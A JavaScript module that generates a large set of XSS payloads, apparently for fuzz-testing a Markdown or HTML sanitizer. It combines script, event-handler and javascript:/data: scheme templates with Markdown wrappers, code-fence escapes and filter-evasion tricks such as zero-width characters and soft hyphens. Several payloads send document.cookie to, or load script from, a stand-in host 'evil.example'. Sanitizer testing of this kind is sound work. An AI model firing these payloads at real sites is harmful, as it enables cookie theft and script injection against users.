/** Attack strings: every payload in every shape that Markdown, HTML or a parser in between might open, `count` of them. */
const CODE = ['alert(1)', 'window.hacked=1', 'top["al"+"ert"](1)', 'fetch("//evil.example/"+document.cookie)', 'import("//evil.example/x.js")']

const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java&#10;script:', 'javascript&colon;', '&#x6A;avascript:',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;', 'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,', 'data:image/svg+xml,<svg onload=',
  'feed:javascript:', 'view-source:javascript:', 'blob:', 'file:///etc/passwd#', '//evil.example/', 'javascript://%0a', '\u2028javascript:', 'javascript\u200b:',
]

const TAGS = [
  (code) => `<script>${code}</script>`,
  (code) => `<script src="//evil.example/x.js">${code}</script>`,
  (code) => `<img src=x onerror="${code}">`,
  (code) => `<img src=x onerror=${code}//`,
  (code) => `<svg onload="${code}">`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin="${code}" attributeName=x dur=1s>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror="${code}">`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:${code}"></iframe>`,
  (code) => `<body onload="${code}">`,
  (code) => `<details open ontoggle="${code}">`,
  (code) => `<input autofocus onfocus="${code}">`,
  (code) => `<video><source onerror="${code}"></video>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<link rel=stylesheet href="javascript:${code}">`,
  (code) => `<style>@import "//evil.example/x.css"; body{background:url(javascript:${code})}</style>`,
  (code) => `<div style="background:url('javascript:${code}')">`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<a href="javascript:${code}" onclick="${code}">x</a>`,
  (code) => `<base href="javascript:${code}//">`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror="${code}"></template>`,
  (code) => `<xmp><img alt="</xmp><img src=x onerror=${code}>"></xmp>`,
  (code) => `<textarea><img title="</textarea><img src=x onerror=${code}>">`,
  (code) => `<a id=location name=cookie href="javascript:${code}">clobber</a>`,
  (code) => `<marquee onstart="${code}">x</marquee>`,
  (code) => `<isindex action="javascript:${code}" type=image>`,
]

const SHAPES = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `| ${text.replaceAll('|', '')} | b |\n|---|---|\n| ${text.replaceAll('|', '')} | c |`,
  (text) => `[${text}](https://example.org)`,
  (text) => `@ann${text}`,
  (text) => `你好${text}，`,
  (text) => `&lt;${text}&gt;`,
]

const LINKS = [
  (target) => `[x](${target})`,
  (target) => `[x](<${target}>)`,
  (target) => `![x](${target})`,
  (target) => `<${target}>`,
  (target) => `[x][r]\n\n[r]: ${target}`,
  (target) => `[x](https://example.org "${target}\\"onmouseover=\\"")`,
  (target) => `[![x](${target})](${target})`,
  (target) => target,
]

const FENCES = [
  (code) => `\`\`\`html"><img src=x onerror=${code}>\n${code}\n\`\`\``,
  (code) => `\`\`\`js\n</code></pre><script>${code}</script>\n\`\`\``,
  (code) => `\`</code><img src=x onerror=${code}>\``,
  (code) => `\`\`\`${'`'.repeat(3)} onclick=${code}\n\`\`\``,
]

export function attacks(count) {
  const all = new Set()
  for (const code of CODE) {
    for (const tag of TAGS) for (const shape of SHAPES) all.add(shape(tag(code)))
    for (const scheme of SCHEMES) for (const link of LINKS) all.add(link(scheme + code.replace(/[()]/g, (mark) => (mark === '(' ? '%28' : '%29'))))
    for (const fence of FENCES) for (const shape of SHAPES) all.add(shape(fence(code)))
  }
  // The rest: each once more with what hides a character from a filter and not from a browser.
  const hiding = [(text) => text.replaceAll('<', '<\u200b'), (text) => text.replaceAll('=', ' = '), (text) => text.toUpperCase(), (text) => text.replaceAll('script', 'scr\u00adipt')]
  for (const hide of hiding) for (const text of [...all]) if (all.size < count) all.add(hide(text))
  return [...all].slice(0, count)
}
